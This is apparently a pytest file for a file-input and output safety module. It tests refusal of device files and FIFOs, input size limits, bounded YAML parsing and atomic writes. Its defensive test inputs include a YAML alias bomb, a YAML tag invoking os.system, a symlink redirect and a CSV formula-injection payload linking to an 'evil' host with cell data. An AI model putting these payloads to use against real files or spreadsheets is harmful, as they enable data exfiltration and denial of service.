"""The guards every reader and writer of user files goes through."""

from __future__ import annotations

import csv
import io
import os

import pytest

from innodrive.errors import InputError
from innodrive.safeio import TRUNCATED_MARK, XLSX_MAX_CELL, atomic_write, load_yaml, read_input, safe_cell


def test_read_input_refuses_devices_fifos_and_folders(tmp_path):
    link = tmp_path / "zero.txt"
    link.symlink_to("/dev/zero")
    with pytest.raises(InputError, match="不是普通文件"):
        read_input(link)
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="不是普通文件"):
        read_input(fifo)
    with pytest.raises(InputError, match="文件夹"):
        read_input(tmp_path)
    with pytest.raises(InputError, match="不存在"):
        read_input(tmp_path / "missing.txt")


def test_read_input_enforces_the_limit(tmp_path):
    f = tmp_path / "big.txt"
    f.write_bytes(b"x" * 2000)
    assert read_input(f, limit=2000) == b"x" * 2000
    with pytest.raises(InputError, match="超过上限"):
        read_input(f, limit=1999)


def test_yaml_alias_bomb_is_refused_quickly():
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(8))
    with pytest.raises(InputError, match="展开后的节点超过"):
        load_yaml(bomb, name="bomb.yaml")


def test_yaml_bounds_on_depth_integers_and_tags():
    with pytest.raises(InputError, match="嵌套"):
        load_yaml("[" * 200 + "]" * 200, name="deep.yaml")
    with pytest.raises(InputError, match="整数位数"):
        load_yaml("n: " + "9" * 400, name="int.yaml")
    with pytest.raises(InputError, match="YAML 格式错误"):
        load_yaml("x: !!python/object/apply:os.system ['true']", name="tag.yaml")
    assert load_yaml("a: [1, 2]\nb: {c: 3}", name="ok.yaml") == {"a": [1, 2], "b": {"c": 3}}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_safe_cell_neutralises_formula_leads(lead):
    value = f'{lead}HYPERLINK("http://evil/"&A2,"点此")'
    cell = safe_cell(value)
    assert cell.startswith("'") and cell[1:] == value
    assert safe_cell(-3.5) == -3.5 and safe_cell("乐山市") == "乐山市"


def test_safe_cell_says_when_it_cuts(caplog):
    with caplog.at_level("WARNING", logger="innodrive.output"):
        cell = safe_cell("长" * (XLSX_MAX_CELL + 10))
    assert len(cell) == XLSX_MAX_CELL and cell.endswith(TRUNCATED_MARK)
    # and in the log, with the lengths but never the content
    (record,) = [r for r in caplog.records if r.name == "innodrive.output"]
    assert "32777" in record.getMessage() and "已截断" in record.getMessage()
    assert "长" not in record.getMessage()
    caplog.clear()
    safe_cell("短")
    assert not caplog.records


def test_safe_csv_round_trip_has_no_formula():
    buf = io.StringIO()
    csv.writer(buf).writerow([safe_cell("=1+1"), safe_cell("@SUM(A1)")])
    assert not any(c.startswith(("=", "@")) for c in next(csv.reader(io.StringIO(buf.getvalue()))))


def test_atomic_write_replaces_a_symlink_instead_of_writing_through_it(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    out = tmp_path / "out.json"
    out.symlink_to(victim)
    atomic_write(out, b"{}")
    assert victim.read_text() == "keep"
    assert not out.is_symlink() and out.read_bytes() == b"{}"


def test_atomic_write_leaves_nothing_on_failure(tmp_path):
    def boom(f):
        f.write(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(InputError, match="No space left"):
        atomic_write(tmp_path / "x.xlsx", boom)
    assert list(tmp_path.iterdir()) == []


def test_atomic_write_leaves_nothing_when_ctrl_c_arrives_as_the_temporary_file_is_made(tmp_path, monkeypatch):
    """The interrupt lands right after the temporary file came into being, before its name
    was known to the caller (CI once found such a file after a Ctrl-C of `extract --out`)."""
    real_open = os.open

    def open_then_interrupt(*args, **kwargs):
        real_open(*args, **kwargs)
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "open", open_then_interrupt)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(tmp_path / "结果.json", b"{}")
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []


def test_atomic_write_draws_another_name_when_its_temporary_name_is_taken(tmp_path, monkeypatch):
    import secrets

    names = iter(["aaaaaaaa", "aaaaaaaa", "bbbbbbbb"])
    monkeypatch.setattr(secrets, "token_hex", lambda n: next(names))
    taken = tmp_path / ".r.json.aaaaaaaa.tmp"
    taken.write_bytes(b"another writer's")
    atomic_write(tmp_path / "r.json", b"{}")
    assert taken.read_bytes() == b"another writer's"  # left alone
    assert sorted(p.name for p in tmp_path.iterdir()) == [".r.json.aaaaaaaa.tmp", "r.json"]
    monkeypatch.undo()
    with pytest.raises(InputError, match="目录不存在"):
        atomic_write(tmp_path / "missing" / "r.json", b"{}")


def test_atomic_files_appear_only_at_commit_each_whole(tmp_path):
    from innodrive.safeio import AtomicFiles

    (tmp_path / "b.json").write_bytes(b"old")
    with AtomicFiles(what="抽取结果") as files:
        files.write(tmp_path / "a.json", b"A" * 100_000)
        files.write(tmp_path / "b.json", b"B")
        assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith(".")) == ["b.json"]
        assert (tmp_path / "b.json").read_bytes() == b"old"  # the old file until the new one is synced
        assert files.commit() == []
    assert (tmp_path / "a.json").read_bytes() == b"A" * 100_000 and (tmp_path / "b.json").read_bytes() == b"B"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.json", "b.json"]  # no temporary file left


def test_atomic_files_left_by_an_exception_leave_no_file(tmp_path):
    from innodrive.safeio import AtomicFiles

    with pytest.raises(KeyboardInterrupt), AtomicFiles() as files:
        files.write(tmp_path / "a.json", b"A")
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


def test_atomic_files_a_failed_sync_is_that_files_error_only(tmp_path, monkeypatch):
    import os

    from innodrive.errors import InputError
    from innodrive.safeio import AtomicFiles

    real = os.fsync
    calls = []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real(fd)

    with AtomicFiles(what="抽取结果") as files:
        for name in ("a", "b", "c"):
            files.write(tmp_path / f"{name}.json", name.encode())
        monkeypatch.setattr(os, "fsync", fsync)
        failed = files.commit()
    assert [(p.name, type(e)) for p, e in failed] == [("b.json", InputError)]
    assert "No space left on device" in str(failed[0][1])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.json", "c.json"]


def test_atomic_files_a_folder_that_refuses_is_an_error_at_write(tmp_path):
    from innodrive.errors import InputError
    from innodrive.safeio import AtomicFiles

    with AtomicFiles(what="抽取结果") as files, pytest.raises(InputError, match="目录不存在"):
        files.write(tmp_path / "missing" / "a.json", b"A")
